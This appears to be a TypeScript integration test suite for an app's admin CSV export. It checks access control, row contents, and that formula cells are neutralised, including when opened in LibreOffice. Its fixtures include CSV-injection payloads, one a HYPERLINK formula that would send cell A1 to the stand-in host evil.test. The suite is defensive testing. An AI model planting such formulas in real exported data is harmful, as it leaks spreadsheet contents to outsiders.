import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { contract } from '@coldmail/contracts';
import {
  call,
  callEndpoint,
  type Persona,
  signUp,
  startTestApi,
  type TestApi,
  unique,
} from './support/test-api';

let api: TestApi;
let admin: Persona;
let buyer: Persona;
const adminEmail = `export-admin-${unique()}@coldmail.test`;
// What a hostile buyer types as their name, hoping an admin opens the export in a spreadsheet.
const HOSTILE = '=HYPERLINK("https://evil.test/?"&A1,"Click")';
const tag = unique();

beforeAll(async () => {
  api = await startTestApi({ ADMIN_EMAILS: adminEmail });
  admin = await signUp(api, 'admin', { email: adminEmail });
  buyer = await signUp(api, 'buyer');
  const pkg = await callEndpoint(api, contract.packages.add, {
    token: admin.token,
    body: { packageName: `Export ${tag}`, price: 12.5, credit: 40, validity: 30 },
  });
  for (const customerName of [HOSTILE, `Ada ${tag}`, '-2+3', '@SUM(A1:A2)']) {
    const placed = await callEndpoint(api, contract.packageOrders.create, {
      token: buyer.token,
      body: { packageId: pkg.body._id, customerName, address: '1 Loop Road', country: 'France' },
    });
    expect(placed.status).toBe(201);
  }
});
afterAll(() => api.close());

/** The export as a spreadsheet reads it: a header row, then one object per row. */
async function exported(request: Promise<{ status: number; headers: Headers; text: string }>) {
  const response = await request;
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(response.headers.get('content-disposition')).toMatch(
    /^attachment; filename="[a-z-]+-\d{4}-\d{2}-\d{2}\.csv"$/,
  );
  return parse(response.text, { bom: true, columns: true }) as Record<string, string>[];
}

describe('CSV export of the admin lists (?format=csv)', () => {
  it('exports every order the search selects, in the table’s order, not one page', async () => {
    const rows = await exported(
      callEndpoint(api, contract.packageOrders.adminList, {
        token: admin.token,
        query: { format: 'csv', q: `Export ${tag}`, sort: 'customerName', dir: 'asc', pageSize: 1 },
      }),
    );
    expect(rows).toHaveLength(4);
    expect(rows[0]).toMatchObject({
      Package: `Export ${tag}`,
      Total: '12.50',
      Currency: 'USD',
      'Payment status': 'pending',
      Credits: '40',
    });
    expect(rows.map((row) => row['Order ID'])).toEqual(
      expect.arrayContaining([expect.stringMatching(/^[A-Z0-9]{8}$/)]),
    );
  });

  it('neutralises cells a spreadsheet would run as a formula', async () => {
    const rows = await exported(
      callEndpoint(api, contract.packageOrders.adminList, {
        token: admin.token,
        query: { format: 'csv', q: `Export ${tag}`, sort: 'customerName', dir: 'asc' },
      }),
    );
    const names = rows.map((row) => row.Customer);
    expect(names).toEqual(
      expect.arrayContaining([`'${HOSTILE}`, "'-2+3", "'@SUM(A1:A2)", `Ada ${tag}`]),
    );
    expect(names.filter((name) => /^[=+\-@]/.test(name ?? ''))).toEqual([]);
  });

  it('exports the users, the audit log and a user’s credit ledger', async () => {
    const users = await exported(
      callEndpoint(api, contract.users.adminList, {
        token: admin.token,
        query: { format: 'csv', q: buyer.email },
      }),
    );
    expect(users).toEqual([
      expect.objectContaining({ 'E-mail': buyer.email, Role: 'member', Credits: '0' }),
    ]);
    const audit = await exported(
      callEndpoint(api, contract.audit.list, {
        token: admin.token,
        query: { format: 'csv', action: 'package.create' },
      }),
    );
    expect(audit[0]).toMatchObject({
      Admin: adminEmail,
      Action: 'package.create',
      Target: `Export ${tag}`,
    });
    const adjusted = await callEndpoint(api, contract.users.adminUpdate, {
      token: admin.token,
      params: { id: buyer.id },
      body: { currentBalance: 7, previousBalance: 0 },
    });
    expect(adjusted.status).toBe(200);
    const ledger = await exported(
      callEndpoint(api, contract.credits.history, {
        token: admin.token,
        query: { format: 'csv', userId: buyer.id },
      }),
    );
    expect(ledger).toEqual([
      expect.objectContaining({
        Change: '7',
        Reason: 'admin-adjustment',
        'Balance after': '7',
        'Adjusted by': adminEmail,
      }),
    ]);
    // The buyer exports their own ledger, without who adjusted it.
    const own = await exported(
      callEndpoint(api, contract.credits.history, { token: buyer.token, query: { format: 'csv' } }),
    );
    expect(own).toEqual([expect.objectContaining({ Change: '7', 'Adjusted by': '' })]);
  });

  it('is for admins only, checks its query, and changes nothing', async () => {
    const { packageOrders, itemOrders, users, audit } = contract;
    for (const endpoint of [
      packageOrders.adminList,
      itemOrders.adminList,
      users.adminList,
      audit.list,
    ]) {
      const csv = { query: { format: 'csv' } } as const;
      expect((await callEndpoint(api, endpoint, csv)).status).toBe(401);
      expect((await callEndpoint(api, endpoint, { ...csv, token: buyer.token })).status).toBe(403);
      // A format the contract does not allow, as it is.
      const wrong = await call(api, 'GET', `${endpoint.path}?format=xlsx`, { token: admin.token });
      expect(wrong.status).toBe(400);
    }
    const others = await callEndpoint(api, contract.credits.history, {
      token: buyer.token,
      query: { format: 'csv', userId: 'a'.repeat(24) },
    });
    expect(others.status).toBe(403);
    expect(others.headers.get('content-type')).toContain('application/json');
  });

  // LibreOffice Calc (Debian's libreoffice-calc-nogui) opens the file as an admin's spreadsheet
  // would: with the comma as separator, and with the semicolon (the separator where the decimal
  // mark is a comma, as in most of Europe), formulas evaluated. No cell may run.
  it('opens in LibreOffice with either separator without running any cell', async () => {
    const lo = unique();
    const pkg = await callEndpoint(api, contract.packages.add, {
      token: admin.token,
      body: { packageName: `Sheet ${lo}`, price: 9, credit: 10, validity: 30 },
    });
    for (const customerName of [
      `Bea ${lo};=CONCATENATE("pw";"ned")`,
      `Cy ${lo},=1000+337`,
      `Dee ${lo};@SUM(1000;337)`,
      HOSTILE,
    ]) {
      const placed = await callEndpoint(api, contract.packageOrders.create, {
        token: buyer.token,
        body: { packageId: pkg.body._id, customerName, address: '1 Road', country: 'France' },
      });
      expect(placed.status).toBe(201);
    }
    const csv = await callEndpoint(api, contract.packageOrders.adminList, {
      token: admin.token,
      query: { format: 'csv', q: `Sheet ${lo}` },
    });
    const dir = mkdtempSync(join(tmpdir(), 'csv-calc-'));
    writeFileSync(join(dir, 'orders.csv'), csv.text);
    for (const separator of [44, 59]) {
      const out = join(dir, `out-${separator}`);
      const converted = spawnSync(
        'soffice',
        [
          `-env:UserInstallation=file://${dir}/profile`,
          '--headless',
          // Separator, text delimiter ", UTF-8, from line 1; token 13: evaluate formulas.
          `--infilter=CSV:${separator},34,76,1,,,,,,,,,true`,
          '--convert-to',
          'csv:Text - txt - csv (StarCalc):124,34,76,1',
          '--outdir',
          out,
          join(dir, 'orders.csv'),
        ],
        { encoding: 'utf8', timeout: 120_000 },
      );
      expect(converted.status).toBe(0);
      const cells = readFileSync(join(out, 'orders.csv'), 'utf8');
      expect(cells).toContain(`Bea ${lo}`);
      // What the formulas would have made, had any run: a value, or an error of a bad one.
      for (const computed of ['pwned', '1337', 'Err:', '#NAME?', '#VALUE!']) {
        expect([separator, computed, cells.includes(computed)]).toEqual([
          separator,
          computed,
          false,
        ]);
      }
    }
  }, 240_000);
});
